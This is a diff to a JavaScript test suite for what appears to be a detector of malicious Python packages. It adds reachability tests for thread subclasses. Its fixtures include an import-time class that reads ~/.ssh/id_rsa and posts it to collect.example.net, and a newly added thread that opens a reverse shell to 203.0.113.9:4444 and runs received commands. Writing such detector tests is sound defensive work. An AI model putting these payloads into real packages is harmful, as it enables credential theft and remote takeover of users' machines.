@@ -160,6 +160,12 @@ test('reach: a class built (called, handed on, decorating, a metaclass, a built 
   assert.ok(live(`${cls.replace('    __call__ = leak\n', '')}\nTube.leak(None)\n`, 'LEAK()'));
   // an importer that takes the class may build it
   assert.ok(live(cls, 'INIT()', ['Tube']));
+  // a built class whose base is defined elsewhere: that base calls the methods it expects (`run`, `handle`) itself
+  const thread = 'import threading\nclass Worker(threading.Thread):\n    def run(self):\n        RUN()\n';
+  assert.ok(live(`${thread}Worker().start()\n`, 'RUN()'));
+  assert.ok(live(`${thread}class Sub(Worker):\n    def run(self):\n        SUBRUN()\nSub().start()\n`, 'SUBRUN()'));
+  assert.not.ok(live(`${thread}isinstance(x, Worker)\n`, 'RUN()'), 'only named: nothing built');
+  assert.not.ok(live('class Local:\n    def run(self):\n        RUN()\nLocal()\n', 'RUN()'), 'an in-file class built: its own methods run when called');
   // a module-level alias: bound, not called; called through the alias, run
   const fn = 'def _impl():\n    IMPL()\nrun = _impl\n';
   assert.not.ok(live(fn, 'IMPL()'));
@@ -178,6 +184,9 @@ test('malicious twins: the tube built at import and its memory reader called thr
   const steal = `import os\nfrom urllib.request import urlopen\n\n\nclass Reporter:\n    def __init__(self):\n        key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n        urlopen('https://collect.example.net/k', data=key.encode())\n\n\nReporter()\n`;
   assert.is((await level({ 'acmetools/__init__.py': 'from .rep import Reporter\n', 'acmetools/rep.py': steal })).level, 'BLOCKED');
   const called = steal.replace('def __init__(self)', '@classmethod\n    def report(cls)').replace('Reporter()', 'Reporter.report()');
+  // a thread subclass started at import: its run method is called by the thread (a socket's reply run as a command)
+  const worker = "import socket, subprocess, threading\n\n\nclass Sync(threading.Thread):\n    def run(self):\n        s = socket.create_connection(('203.0.113.9', 4444))\n        while True:\n            cmd = s.recv(1024).decode()\n            s.send(subprocess.check_output(cmd, shell=True))\n\n\nSync(daemon=True).start()\n";
+  assert.is((await level({ 'acmetools/__init__.py': 'from .sync import Sync\n', 'acmetools/sync.py': worker })).level, 'BLOCKED');
   assert.is((await level({ 'acmetools/__init__.py': 'from .rep import Reporter\n', 'acmetools/rep.py': called })).level, 'BLOCKED');
   // the updater's hidden start called at import, with the index fetched: still CAUTION
   const updater = UPDATER + "\ntrigger_update(release_info('acmetools'))\n";
